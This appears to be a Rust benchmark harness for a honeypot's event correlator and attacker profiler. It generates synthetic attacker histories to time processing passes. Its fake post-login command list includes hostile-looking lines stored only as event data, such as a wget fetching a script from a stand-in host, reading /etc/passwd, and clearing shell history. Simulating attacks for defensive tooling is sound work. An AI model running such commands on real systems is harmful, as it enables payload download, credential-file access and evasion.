//! `cargo xtask bench intel`: how fast do `decnet correlate` + `decnet profiler` turn a history
//! into sessions, attackers and profiles, and does one incremental pass stay cheap as the
//! history grows?
//!
//! For each history size (default 30,000 and 300,000 events, so that a default run stays under
//! ≈5 minutes on the 2-vCPU VM; `--events 100000,1000000` is the measurement, ≈15 min;
//! 10,000 attackers, plus flows: port scans by 5 % of the attackers and each connection's two
//! directions), a
//! fresh SQLite database (temp dir) is filled the way the collector and sensor fill it (events
//! with their credential attempts, in 10,000-row transactions, in time order; a 10-decky fleet),
//! then the real binaries run once over everything: `decnet correlate --flow-settle 0`, then
//! `decnet profiler`. Then 1,000 new events (random attackers, after the history) are stored and
//! one more correlate + profiler pass is timed. The table prints both sizes side by side.
//!
//! The synthetic history: each attacker acts in bursts (a connection to one decky service: a
//! connect, 1–6 credential attempts from a 500-word list (so secrets are reused across deckies),
//! sometimes a login and 1–4 commands, HTTP requests with one of a few User-Agents, a
//! disconnect), bursts spread over 30 days. Deterministic (fixed-seed generator).
//!
//! Flags: `--events N[,N…]` (history sizes), `--attackers N`, `--incremental N`,
//! `--keep` (keep the databases), `--dir PATH`.
use std::{
    net::{IpAddr, Ipv4Addr},
    path::PathBuf,
    process::Command,
    time::Instant,
};

use anyhow::{Context, Result, bail, ensure};
use decnet_core::{
    model::{CredentialAttempt, Decky, DeckyService, FlowRecord, NewEvent},
    repo::{Repository, Write},
};

struct Args {
    sizes: Vec<usize>,
    attackers: u32,
    incremental: usize,
    keep: bool,
    dir: PathBuf,
}

fn parse_args() -> Result<Args> {
    let mut a = Args {
        sizes: vec![30_000, 300_000],
        attackers: 10_000,
        incremental: 1_000,
        keep: false,
        dir: std::env::temp_dir().join(format!("decnet-bench-intel-{}", std::process::id())),
    };
    let mut it = std::env::args().skip(1);
    while let Some(arg) = it.next() {
        let mut val = || it.next().with_context(|| format!("{arg} needs a value"));
        match arg.as_str() {
            "--events" => {
                a.sizes = val()?
                    .split(',')
                    .map(|s| s.trim().parse::<usize>())
                    .collect::<Result<_, _>>()
                    .context("--events: comma-separated counts")?
            }
            "--attackers" => a.attackers = val()?.parse().context("--attackers")?,
            "--incremental" => a.incremental = val()?.parse().context("--incremental")?,
            "--dir" => a.dir = PathBuf::from(val()?),
            "--keep" => a.keep = true,
            "-h" | "--help" => {
                println!(
                    "bench-intel [--events 100000,1000000] [--attackers 10000] [--incremental 1000] [--keep] [--dir PATH]"
                );
                std::process::exit(0);
            }
            other => bail!("unknown argument {other:?} (see --help)"),
        }
    }
    ensure!(a.attackers > 0 && !a.sizes.is_empty(), "nothing to do");
    Ok(a)
}

/// A small deterministic generator (SplitMix64).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
}

const T0: i64 = 1_790_000_000_000_000_000;
const SEC: i64 = 1_000_000_000;
const DECKIES: [(&str, [(&str, u16); 3]); 10] = [
    ("web-01", [("ssh", 22), ("http", 80), ("https", 443)]),
    ("web-02", [("ssh", 22), ("http", 80), ("https", 443)]),
    ("db-01", [("ssh", 22), ("mysql", 3306), ("redis", 6379)]),
    ("db-02", [("ssh", 22), ("mysql", 3306), ("redis", 6379)]),
    ("files-01", [("ssh", 22), ("ftp", 21), ("telnet", 23)]),
    ("files-02", [("ssh", 22), ("ftp", 21), ("telnet", 23)]),
    ("mail-01", [("ssh", 22), ("smtp", 25), ("http", 80)]),
    ("iot-01", [("telnet", 23), ("http", 80), ("ssh", 22)]),
    ("dev-01", [("ssh", 22), ("http", 80), ("redis", 6379)]),
    ("jump-01", [("ssh", 22), ("telnet", 23), ("ftp", 21)]),
];
const UAS: [&str; 6] = [
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
];
const COMMANDS: [&str; 6] = [
    "uname -a",
    "cat /etc/passwd",
    "wget http://198.51.100.7/x.sh",
    "id",
    "ps aux",
    "history -c",
];

fn decky_ip(i: usize) -> IpAddr {
    IpAddr::V4(Ipv4Addr::new(10, 0, 0, 10 + i as u8))
}

fn attacker_ip(i: u32) -> IpAddr {
    IpAddr::V4(Ipv4Addr::from(0x6440_0000u32 + i)) // 100.64.0.0/10 and up
}

fn fleet() -> Vec<Decky> {
    DECKIES
        .iter()
        .enumerate()
        .map(|(i, (name, services))| Decky {
            name: (*name).into(),
            ip: decky_ip(i),
            hostname: (*name).into(),
            os_family: "linux".into(),
            archetype: "server".into(),
            persona: "{}".into(),
            status: "running".into(),
            services: services
                .iter()
                .map(|(s, p)| DeckyService {
                    service: (*s).into(),
                    port: *p,
                    settings: "{}".into(),
                })
                .collect(),
        })
        .collect()
}

/// The generated input, in time order.
#[derive(Default)]
struct Input {
    events: Vec<NewEvent>,
    creds: Vec<(usize, CredentialAttempt)>,
    flows: Vec<FlowRecord>,
}

fn event(
    ts: i64,
    ip: IpAddr,
    decky: &str,
    service: &str,
    ty: &str,
    fields: serde_json::Value,
    seq: u64,
) -> NewEvent {
    let f = fields.to_string();
    NewEvent {
        ts_ns: ts,
        decky: decky.into(),
        service: service.into(),
        event_type: ty.into(),
        attacker_ip: Some(ip),
        attacker_port: Some(40_000 + (seq % 20_000) as u16),
        raw: format!("<134>1 {ts} {decky} {service} - {ty} [relay@55555 {f}] {seq}").into_bytes(),
        fields: f,
        dedup_key: None,
    }
}

/// About `n` events (and n/10 flows) from `attackers`, from `start_ns` on, spread over `span_ns`.
fn synthesize(rng: &mut Rng, n: usize, attackers: u32, start_ns: i64, span_ns: i64) -> Input {
    let mut out = Input::default();
    let bursts = (n / 6).max(1) as i64;
    let step = (span_ns / bursts).max(1);
    let mut seq = rng.next();
    let mut t = start_ns;
    while out.events.len() < n {
        t += step / 2 + rng.below(step as u64) as i64;
        let a = rng.below(u64::from(attackers)) as u32;
        let ip = attacker_ip(a);
        let d = rng.below(DECKIES.len() as u64) as usize;
        let (decky, services) = DECKIES[d];
        let (service, port) = services[rng.below(3) as usize];
        let mut ts = t;
        let mut push = |out: &mut Input, ty: &str, fields: serde_json::Value, ts: i64| {
            seq += 1;
            out.events
                .push(event(ts, ip, decky, service, ty, fields, seq));
        };
        // Scanners (5 % of attackers) sweep ports first: flows only.
        if a.is_multiple_of(20) {
            for p in 0..(n / 10 / 200).clamp(1, 50) {
                out.flows.push(FlowRecord {
                    bridge: "decnet0".into(),
                    port: format!("veth{d}"),
                    src_ip: ip,
                    dst_ip: decky_ip(d),
                    src_port: 50_000,
                    dst_port: 1 + (p as u16 * 37) % 10_000,
                    proto: 6,
                    vlan: 0,
                    packets: 2,
                    bytes: 120,
                    tcp_flags: 0x06,
                    first_seen_ns: ts + p as i64 * 20_000_000,
                    last_seen_ns: ts + p as i64 * 20_000_000 + 1_000_000,
                    ended: true,
                });
            }
        }
        push(&mut out, "connect", serde_json::json!({}), ts);
        if service == "http" || service == "https" {
            for _ in 0..1 + rng.below(4) {
                ts += SEC / 2 + rng.below(SEC as u64) as i64;
                let ua = UAS[rng.below(UAS.len() as u64) as usize];
                push(
                    &mut out,
                    "request",
                    serde_json::json!({"method": "GET", "path": "/", "user_agent": ua}),
                    ts,
                );
            }
        } else {
            let tries = 1 + rng.below(6);
            for k in 0..tries {
                ts += SEC / 4 + rng.below(SEC as u64) as i64;
                let pw = format!("pw{}", rng.below(500));
                let ok = k + 1 == tries && rng.below(10) == 0;
                push(
                    &mut out,
                    "auth_attempt",
                    serde_json::json!({"principal": "root", "secret_printable": pw,
                        "secret_kind": "password", "result": if ok { "accepted" } else { "rejected" },
                        "client_version": "SSH-2.0-libssh_0.10.6"}),
                    ts,
                );
                out.creds.push((
                    out.events.len() - 1,
                    CredentialAttempt {
                        attacker_ip: ip,
                        decky: decky.into(),
                        service: service.into(),
                        principal: b"root".to_vec(),
                        secret_kind: "password".into(),
                        secret: pw.into_bytes(),
                        attempts: 1,
                        first_seen_ns: ts,
                        last_seen_ns: ts,
                    },
                ));
                if ok {
                    for _ in 0..1 + rng.below(4) {
                        ts += 3 * SEC + rng.below(10 * SEC as u64) as i64;
                        let c = COMMANDS[rng.below(COMMANDS.len() as u64) as usize];
                        push(&mut out, "command", serde_json::json!({"cmd": c}), ts);
                    }
                }
            }
        }
        ts += SEC;
        push(&mut out, "disconnect", serde_json::json!({}), ts);
        // The connection's flow (both directions).
        for (src, dst, sp, dp) in [
            (ip, decky_ip(d), 40_000, port),
            (decky_ip(d), ip, port, 40_000),
        ] {
            out.flows.push(FlowRecord {
                bridge: "decnet0".into(),
                port: format!("veth{d}"),
                src_ip: src,
                dst_ip: dst,
                src_port: sp,
                dst_port: dp,
                proto: 6,
                vlan: 0,
                packets: 12,
                bytes: 2_000,
                tcp_flags: 0x1b,
                first_seen_ns: t,
                last_seen_ns: ts,
                ended: true,
            });
        }
    }
    out
}

async fn store(repo: &Repository, input: &Input) -> Result<()> {
    const CHUNK: usize = 10_000;
    let mut cred_i = 0;
    for (c, events) in input.events.chunks(CHUNK).enumerate() {
        let base = c * CHUNK;
        let mut creds = Vec::new();
        while cred_i < input.creds.len() && input.creds[cred_i].0 < base + events.len() {
            let (i, cr) = &input.creds[cred_i];
            creds.push((i - base, cr.clone()));
            cred_i += 1;
        }
        repo.write(&[Write::EventsWithCredentials {
            events,
            credentials: &creds,
        }])
        .await?;
    }
    for flows in input.flows.chunks(CHUNK) {
        repo.upsert_flows(flows).await?;
    }
    Ok(())
}

fn decnet_bin() -> PathBuf {
    std::env::var_os("DECNET_BIN")
        .map(PathBuf::from)
        .unwrap_or_else(|| {
            PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../target/release/decnet")
        })
}

/// Runs one worker once over everything pending; its wall time in seconds.
fn run_worker(args: &[&str], url: &str) -> Result<f64> {
    let t = Instant::now();
    let out = Command::new(decnet_bin())
        .args(args)
        .args(["--db-url", url])
        .env_remove("DECNET_DB_TYPE")
        .env_remove("DECNET_DB_URL")
        .output()
        .with_context(|| format!("cannot run {}", decnet_bin().display()))?;
    let secs = t.elapsed().as_secs_f64();
    ensure!(
        out.status.success(),
        "decnet {args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    Ok(secs)
}

struct Row {
    events: usize,
    flows: usize,
    fill_s: f64,
    correlate_s: f64,
    profile_s: f64,
    attackers: u64,
    sessions_hint: String,
    inc_correlate_s: f64,
    inc_profile_s: f64,
}

async fn one_size(a: &Args, n: usize) -> Result<Row> {
    let path = a.dir.join(format!("history-{n}.db"));
    let url = format!("sqlite://{}", path.display());
    let mut rng = Rng(0xdec0_de00 + n as u64);
    let span = 30 * 86_400 * SEC;
    let history = synthesize(&mut rng, n, a.attackers, T0, span);
    let t = Instant::now();
    let repo = Repository::connect(&url).await?;
    repo.write(&[Write::Deckies(&fleet())]).await?;
    store(&repo, &history).await?;
    let fill_s = t.elapsed().as_secs_f64();
    println!(
        "[bench-intel] {n}: stored {} events, {} credentials, {} flows in {fill_s:.1} s",
        history.events.len(),
        history.creds.len(),
        history.flows.len()
    );
    let correlate_s = run_worker(&["correlate", "--flow-settle", "0"], &url)?;
    let profile_s = run_worker(&["profiler"], &url)?;
    let attackers = repo.attackers_after(0, u32::MAX).await?.len() as u64;
    println!(
        "[bench-intel] {n}: correlate {correlate_s:.1} s, profiler {profile_s:.1} s, {attackers} attackers"
    );
    // 1,000 new events after the history, then one incremental pass.
    let mut rng = Rng(0x1dc0_0001);
    let new = synthesize(
        &mut rng,
        a.incremental,
        a.attackers,
        T0 + span + 3600 * SEC,
        600 * SEC,
    );
    let mut new = new;
    new.events.truncate(a.incremental);
    new.creds.retain(|(i, _)| *i < a.incremental);
    store(&repo, &new).await?;
    let inc_correlate_s = run_worker(&["correlate", "--flow-settle", "0"], &url)?;
    let inc_profile_s = run_worker(&["profiler"], &url)?;
    let sessions: i64 = repo
        .counters()
        .await?
        .iter()
        .filter(|(w, _, n, _)| w == "correlator" && n == "sessions_written")
        .map(|(_, _, _, v)| *v)
        .sum();
    repo.close().await;
    if !a.keep {
        for suffix in ["", "-wal", "-shm", ".migrate-lock"] {
            let mut p = path.clone().into_os_string();
            p.push(suffix);
            let _ = std::fs::remove_file(p);
        }
    }
    Ok(Row {
        events: history.events.len(),
        flows: history.flows.len(),
        fill_s,
        correlate_s,
        profile_s,
        attackers,
        sessions_hint: format!("{sessions} session rows written"),
        inc_correlate_s,
        inc_profile_s,
    })
}

fn main() -> Result<()> {
    let a = parse_args()?;
    std::fs::create_dir_all(&a.dir)
        .with_context(|| format!("cannot create {}", a.dir.display()))?;
    ensure!(
        decnet_bin().exists(),
        "{} not found: build it (cargo build --release -p decnet-agent) or set DECNET_BIN",
        decnet_bin().display()
    );
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()?;
    let mut rows = Vec::new();
    for &n in &a.sizes {
        rows.push(rt.block_on(one_size(&a, n))?);
    }
    if !a.keep {
        let _ = std::fs::remove_dir_all(&a.dir);
    }
    println!();
    println!(
        "| history (events / flows) | attackers | fill s | correlate s | profiler s | events/s (correlate+profiler) | incremental pass after {} events: correlate + profiler s |",
        a.incremental
    );
    println!("|---|---|---|---|---|---|---|");
    for r in &rows {
        println!(
            "| {} / {} | {} | {:.1} | {:.1} | {:.1} | {:.0} | {:.2} + {:.2} = {:.2} |",
            r.events,
            r.flows,
            r.attackers,
            r.fill_s,
            r.correlate_s,
            r.profile_s,
            r.events as f64 / (r.correlate_s + r.profile_s),
            r.inc_correlate_s,
            r.inc_profile_s,
            r.inc_correlate_s + r.inc_profile_s
        );
        println!("[bench-intel]   ({})", r.sessions_hint);
    }
    if rows.len() >= 2 {
        let (s, l) = (&rows[0], &rows[rows.len() - 1]);
        let ratio = (l.inc_correlate_s + l.inc_profile_s) / (s.inc_correlate_s + s.inc_profile_s);
        println!(
            "\nincremental pass, {}× the history: {ratio:.2}× the time (flat means cost follows new data, not history)",
            l.events / s.events.max(1)
        );
    }
    Ok(())
}
